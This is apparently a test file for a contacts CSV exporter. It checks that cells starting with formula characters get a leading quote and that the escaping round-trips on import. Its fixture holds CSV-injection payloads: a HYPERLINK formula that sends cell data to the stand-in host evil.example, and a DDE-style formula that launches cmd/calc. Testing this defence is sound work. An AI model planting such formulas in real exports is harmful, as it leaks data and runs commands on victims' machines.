/**
 * The contacts CSV export is formula-safe (docs/contacts.md#exports-are-formula-safe): a cell that starts
 * with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading `'`, so a spreadsheet shows
 * it as text instead of running it; the phone (always E.164) is written as it is. Importing the export
 * restores every value exactly (the import takes the added `'` off again), and the console's export is
 * the same file. Checked through the real server, its export route, its import job and its database.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { formulaSafe, unescapeFormula } from '../../src/domain/contacts-csv.ts';
import { signedInClient } from '../console/helpers.ts';
import { ADMIN_TOKEN, eventually, startTestServer, type TestServer } from '../helpers/server.ts';

let s: TestServer;
before(async () => { s = await startTestServer(); });
after(async () => { await s.close(); });

let n = 0;
/** A fresh German mobile number (unique across runs sharing a PostgreSQL database). */
function phone(): string {
  n++;
  return `+49152${String(process.pid % 1000).padStart(3, '0')}${String((Date.now() + n) % 100_000).padStart(5, '0')}`;
}

async function exportCsv(companyId: number): Promise<string> {
  const res = await fetch(`${s.url}/admin/companies/${companyId}/contacts/export`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
  assert.equal(res.status, 200);
  return res.text();
}

const DANGEROUS = {
  first_name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  last_name: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  minus: '-2+3',
  plus: '+1+1',
  tab: '\t=1+1',
  cr: '\r=1+1',
  quoted: "'=already quoted",
  twice: "''@twice",
  plain: 'hello = world',
  apostrophe: "'just text",
};

describe('happy', () => {
  test('every formula-looking cell is prefixed with a quote, the phone is not, and the export imports back unchanged', async () => {
    const c = await s.company();
    const p = phone();
    const { first_name, last_name, ...variables } = DANGEROUS;
    await s.admin('PUT', `/admin/companies/${c.companyId}/contacts`, { contacts: [{ phone: p, first_name, last_name, variables }] });

    const text = await exportCsv(c.companyId);
    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    assert.equal(row.phone, p, 'the E.164 phone is written as it is');
    assert.equal(row.first_name, `'${DANGEROUS.first_name}`);
    assert.equal(row.last_name, `'${DANGEROUS.last_name}`);
    assert.equal(row.minus, "'-2+3");
    assert.equal(row.plus, "'+1+1");
    assert.equal(row.tab, "'\t=1+1");
    assert.equal(row.cr, "'\r=1+1");
    assert.equal(row.quoted, "''=already quoted", 'a quote before a formula gets one more, so the import can take one off');
    assert.equal(row.twice, "'''@twice");
    assert.equal(row.plain, 'hello = world');
    assert.equal(row.apostrophe, "'just text", 'a quote before plain text is left alone');
    for (const [k, v] of Object.entries(row)) {
      if (k === 'phone') continue;
      assert.ok(!/^[=+\-@\t\r]/.test(v), `${k} starts with a character a spreadsheet runs: ${JSON.stringify(v)}`);
    }

    // The console offers the same file.
    const owner = await signedInClient(s, c.companyId);
    const fromConsole = await owner.get('/console/contacts/export.csv');
    assert.equal(fromConsole.status, 200);
    assert.equal(fromConsole.text, text);

    // Importing the export restores every value: the stored contact is unchanged and so is the export.
    const imported = await fetch(`${s.url}/admin/companies/${c.companyId}/contacts/imports`, {
      method: 'POST', headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'text/csv' }, body: text,
    });
    assert.equal(imported.status, 202);
    const importId = (await imported.json()).import_id;
    const done = await eventually(async () => {
      const x = await s.admin('GET', `/admin/companies/${c.companyId}/contacts/imports/${importId}`);
      return x.status === 'completed' ? x : undefined;
    });
    assert.deepEqual([done.created, done.updated, done.failed], [0, 1, 0]);
    const stored = await s.service.deps.database.db.selectFrom('contacts').select(['first_name', 'last_name', 'variables'])
      .where('company_id', '=', c.companyId).where('phone', '=', p).executeTakeFirstOrThrow();
    assert.equal(stored.first_name, DANGEROUS.first_name);
    assert.equal(stored.last_name, DANGEROUS.last_name);
    // The import trims cells (a file's stray spaces); the two values starting with a tab or CR were
    // kept whole through the export and import because the added quote protects them.
    assert.deepEqual(stored.variables, variables);
    assert.equal(await exportCsv(c.companyId), text);
  });
});

describe('error', () => {
  test('formulaSafe and unescapeFormula are exact inverses, also for strings that look escaped already', () => {
    const samples = ['', 'a', '=', "'", "''", "'=", "''=", "'a", '-', '+49', '@', '\t', '\r', ' =1', '=\'', "'''-x", 'x=1'];
    for (const v of samples) {
      assert.equal(unescapeFormula(formulaSafe(v)), v, JSON.stringify(v));
      assert.ok(!/^[=+\-@\t\r]/.test(formulaSafe(v)), JSON.stringify(v));
    }
  });
});

describe('security', () => {
  test('another company exports only its own contacts, escaped the same way', async () => {
    const a = await s.company();
    const b = await s.company();
    await s.admin('PUT', `/admin/companies/${a.companyId}/contacts`, { contacts: [{ phone: phone(), first_name: '=1+1' }] });
    const text = await exportCsv(b.companyId);
    assert.equal(parse(text, { columns: true }).length, 0);
  });
});
